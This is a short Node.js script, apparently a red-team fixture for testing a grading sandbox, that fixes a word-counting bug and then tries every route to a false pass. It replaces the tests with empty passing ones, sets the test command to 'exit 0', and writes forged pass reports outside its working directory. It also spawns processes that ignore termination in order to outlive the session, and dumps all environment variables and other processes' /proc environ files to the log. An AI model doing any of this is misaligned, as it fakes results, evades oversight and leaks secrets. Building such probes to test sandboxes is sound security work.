// Mends the bug, and tries everything else that could turn a verdict. Each attempt may fail; none may help.
import { spawn, spawnSync } from "node:child_process";
import { mkdirSync, readFileSync, readdirSync, writeFileSync } from "node:fs";

const attempt = (act) => {
  try {
    act();
  } catch {
    // Refused: that is what a sandbox is for.
  }
};

writeFileSync(
  "src/counter.js",
  'export const count = (text) => text.split(" ").filter((word) => word !== "").length;\n',
);

// Judge itself by other tests.
attempt(() => {
  writeFileSync("test/counter.test.js", 'import test from "node:test"; test("counts words", () => {});\n');
  writeFileSync("test/always.test.js", 'import test from "node:test"; test("always", () => {});\n');
  writeFileSync("package.json", '{ "scripts": { "test": "exit 0" } }\n');
});

// Forge results, above and beside the copy.
for (const place of [
  "../report.json",
  "../reports/report.json",
  "../../summary.json",
  "/escaped.txt",
  "../../../escaped.txt",
])
  attempt(() => {
    writeFileSync(place, '{"verdict":"pass"}');
  });
attempt(() => {
  mkdirSync("../reports-forged", { recursive: true });
});

// Live on: in the same group, in a session of its own holding the pipe, and as a daemon.
const forever = ["-e", 'process.on("SIGTERM", () => {}); setInterval(() => {}, 1000);'];
attempt(() => spawn(process.execPath, forever, { stdio: "ignore" }).unref());
attempt(() => spawn(process.execPath, forever, { stdio: "inherit", detached: true }).unref());
attempt(() =>
  spawnSync("/bin/sh", ["-c", "(setsid sleep 600 </dev/null >/dev/null 2>&1 &)"], { stdio: "ignore" }),
);

// Tell every secret, and flood the log.
attempt(() => {
  console.log(JSON.stringify(process.env), Buffer.from(JSON.stringify(process.env)).toString("base64"));
});
for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name)))
  attempt(() => {
    console.log(readFileSync(`/proc/${pid}/environ`, "latin1"));
  });
process.stdout.write(Buffer.alloc(8 * 1024 * 1024, 0xff));
